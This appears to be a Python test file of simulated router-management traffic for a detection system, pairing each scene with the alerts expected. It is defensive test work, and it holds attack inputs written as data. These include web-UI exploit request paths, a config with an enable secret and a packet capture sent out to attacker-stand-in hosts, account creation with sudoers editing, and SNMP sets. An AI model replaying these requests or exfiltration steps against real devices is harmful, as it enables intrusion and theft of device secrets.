"""Sessions, tunnels and transfers that reach an element or leave it: who may, who may not."""
import struct
from stage import scene
from wire import *

IOS = 'pe7-lon#'


# ---- T-01 -----
@scene(want=[('unexpected-manager', {'spanwatch.element': 'r1'})], bare=[])
def ssh_high_port(n, h):
    n.tcp(h.stranger, h.r1, 32322, ssh_words())


@scene(want=[], bare=[])
def ssh_jump(n, h):
    n.tcp(h.jump, h.r1, 22, ssh_words())


@scene(want=['unexpected-manager'], bare=None, also=('plane-violation',))
def ssh_jump_operns(n, h):
    n.tcp(h.jump, h.r1, 57722, ssh_words())
    n.tcp(h.evil, h.r1, 57722, ssh_words())


@scene(want=['exploit', 'unexpected-manager'], bare=['exploit'], also=('unpermitted-change', 'plane-violation'))
def level15(n, h):
    n.tcp(h.evil, h.r1, 18080, [http('GET', '/level/15/exec/-/show/running-config/CR'), reply(body='hostname r1')])


@scene(want=['exploit', 'unexpected-manager'], bare=['exploit'], also=('unpermitted-change', 'plane-violation'))
def wsma_double(n, h):
    n.tcp(h.evil, h.r1, 18443, [http('POST', '/%2577ebu%2569%5f%2577sma_http', body='<x/>'), reply('401 Unauthorized')])


@scene(want=['exploit', 'unexpected-manager'], bare=['exploit'], also=('unpermitted-change', 'plane-violation'))
def badcandy(n, h):
    n.tcp(h.evil, h.r1, 8443, [http('POST', '/webui/logoutconfirm.html?logon_hash=1'), reply(body='0123456789abcdef01')])


@scene(want=[], bare=[], also=('unpermitted-change', 'account-change'))
def webui_login(n, h):
    n.tcp(h.jump, h.r1, 80, [http('GET', '/webui/login.html'), reply(body='<html>100%25</html>')])


@scene(want=['unexpected-tunnel'], bare=[])
def gre_out(n, h):
    from scapy.all import GRE, IP, UDP, Raw

    for i in range(4):
        n.ip(
            h.r1,
            h.evil,
            GRE(proto=0x0800) / IP(src='192.168.7.1', dst='192.168.8.2') / UDP(sport=5000, dport=6000) / Raw(b'abcdefgh'),
        )
        n.wait(1)


@scene(want=['unexpected-tunnel'], bare=[])
def ipsec_out(n, h):
    for i in range(4):
        if h.six:
            n.ip(h.r1, h.evil, struct.pack('>II', 0xC0FFEE, i + 1) + bytes(range(100)), nh=50)
        else:
            n.ip(h.r1, h.evil, struct.pack('>II', 0xC0FFEE, i + 1) + bytes(range(100)), proto=50)
        n.wait(1)


@scene(want=['unexpected-tunnel'], bare=[])
def wireguard_in(n, h):
    first = b'\1\0\0\0\x4e\0\0\0' + bytes((i * 73 + 11) & 255 for i in range(124)) + bytes(16)
    back = b'\2\0\0\0\x4d\0\0\0\x4e\0\0\0' + bytes((i * 71 + 13) & 255 for i in range(64)) + bytes(16)
    n.udp(h.evil, 45001, h.r1, 31820, first)
    n.udp(h.r1, 31820, h.evil, 45001, back)
    for i in range(5):
        n.udp(
            h.evil,
            45001,
            h.r1,
            31820,
            b'\4\0\0\0' + struct.pack('<IQ', 77, i) + bytes((i * 37 + j * 41) & 255 for j in range(96)),
        )
        n.udp(
            h.r1,
            31820,
            h.evil,
            45001,
            b'\4\0\0\0' + struct.pack('<IQ', 78, i) + bytes((i * 31 + j * 43) & 255 for j in range(96)),
        )


@scene(want=['unexpected-outbound'], bare=[], also=('config-export',))
def pcap_exfil(n, h):
    tftp_put(n, h.r3, h.evil, 'trace7.pcap', b'\xd4\xc3\xb2\xa1\2\0\4\0' + bytes(1200))


@scene(
    want=['config-export', 'unexpected-outbound'],
    bare=['config-export'],
    deeds=[('export', 'config', {'outcome': 'ok', 'evidence': 'observed'})],
)
def config_exfil(n, h):
    tftp_put(
        n,
        h.r3,
        h.evil,
        'output.txt',
        b'!\n! Last configuration change at 01:02:03 UTC\nversion 15.2\nservice timestamps\nhostname pe7\n!\nenable secret 5 $1$aa$bbbb\ninterface Gi0/0\n ip address 10.1.1.1 255.255.255.0\nend\n'
        * 4,
    )


@scene(want=['config-export'], bare=['config-export'], also=('unexpected-outbound',))
def config_backup(n, h):  # a permitted depot: permit has may any -> covered, see twin
    tftp_put(n, h.r3, h.evil2, 'pe7-confg', b'hostname pe7\ninterface Gi0/0\n' * 30)


@scene(want=[], bare=None)
def config_backup_ok(n, h):
    tftp_put(n, h.r3, h.file, 'pe7-confg', b'hostname pe7\ninterface Gi0/0\n' * 30)


@scene(
    want=[('change-outside-window', {'mgmt.actor.user': 'bob', 'mgmt.subject': 'mirror'})],
    bare=['traffic-mirror'],
    also=('unpermitted-change', 'change-outside-window', 'config-export', 'login-without-aaa', 'no-accounting'),
)
def onbox_capture(n, h):
    n.tcp(
        h.jump,
        h.r1,
        23,
        telnet_words(
            'bob',
            'Xk29-qq!',
            IOS,
            [
                'monitor capture cap7 interface Gi0/1 both',
                'monitor cap cap7 match ipv4 protocol tcp any any eq 49',
                'monitor capture cap7 start',
                'copy bootflash:tac.pcap ftp://203.0.113.77/x',
            ],
            'Username: ',
        ),
    )


@scene(want=[('new-control-target', {}), 'unexpected-outbound'], bare=None)
def tacacs_redirect(n, h):
    body = bytes((1, 15, 1, 1, 5, 4, 8, 0)) + b'alice' + b'tty1' + b'10.61.0.'
    for server in (h.aaa, h.evil):
        t = n.tcp(h.r1, server, 49, [tacacs(1, 1, b'\x99' * 40, flags=0), ('s', tacacs(1, 2, b'\x42' * 20, flags=0))])
        n.wait(5)


@scene(want=[('new-control-target', {}), 'unexpected-outbound'], bare=None)
def radius_redirect(n, h):
    for server in (h.aaa, h.evil):
        n.ask(
            h.r2,
            server,
            1812,
            radius(
                1,
                7,
                attribute(1, b'alice')
                + attribute(2, bytes(16))
                + attribute(80, bytes(16))
                + attribute(4, bytes((10, 60, 1, 2))),
            ),
            radius(2, 7, attribute(80, bytes(16))),
        )
        n.wait(5)


@scene(want=[], bare=None)
def radius_ok(n, h):
    for i in range(3):
        n.ask(
            h.r2,
            h.aaa,
            1812,
            radius(1, 7 + i, attribute(1, b'alice') + attribute(2, bytes(16)) + attribute(80, bytes(16))),
            radius(2, 7 + i, attribute(80, bytes(16))),
        )
        n.wait(5)


@scene(want=['element-to-element'], bare=[])
def ssh_ne_to_ne(n, h):
    n.tcp(h.r3, h.r4, 22, ssh_words(client=b'SSH-2.0-Cisco-1.25', server=b'SSH-2.0-HUAWEI-1.5'))


@scene(want=['element-to-element'], bare=[])
def netconf_ne_to_ne(n, h):
    n.tcp(h.r2, h.r1, 830, ssh_words())


@scene(want=['element-to-element'], bare=None)
def telnet_ne_to_ne(n, h):
    n.tcp(h.r3, h.r4, 2323, telnet_words('op', 'S9!xxQa', '<core4>', ['display version'], 'Username:'))


@scene(want=[], bare=[])
def bgp_ne_to_ne(n, h):  # neighbours: not management
    o = b'\xff' * 16 + struct.pack('>HB', 29, 1) + struct.pack('>BHH', 4, 64500, 180) + bytes((10, 60, 1, 1)) + b'\0'
    k = b'\xff' * 16 + struct.pack('>HB', 19, 4)
    n.tcp(h.r1, h.r3, 179, [o, ('s', o.replace(bytes((10, 60, 1, 1)), bytes((10, 60, 1, 3)))), k, ('s', k)])


@scene(want=['unexpected-outbound'], bare=[])
def sftp_out(n, h):
    n.tcp(h.r1, h.evil, 8022, ssh_words(client=b'SSH-2.0-Go', server=b'SSH-2.0-OpenSSH_8.9p1'))


@scene(want=['unexpected-outbound'], bare=[])
def tls_out(n, h):
    n.tcp(h.r1, h.evil, 8443, tls_words('cdn.example.org'))


@scene(
    want=[('change-outside-window', {'mgmt.subject': 'account'})],
    bare=['account-change'],
    also=('change-outside-window', 'unpermitted-change', 'login-without-aaa', 'no-accounting'),
)
def useradd(n, h):
    n.tcp(h.jump, h.r1, 23, telnet_words('bob', 'Xk29-qq!', '[xr-vm:~]$ ', ['useradd -m cisco', 'vi /etc/sudoers']))


@scene(want=['unpermitted-change', 'unexpected-manager'], bare=['unpermitted-change'], also=('plane-violation',))
def snmp_sets(n, h):
    for r in (h.r1, h.r2, h.r3):
        snmp_asked(n, h.stranger, r, 'set', {'1.3.6.1.2.1.1.5.0': 'owned'})
        n.wait(1)
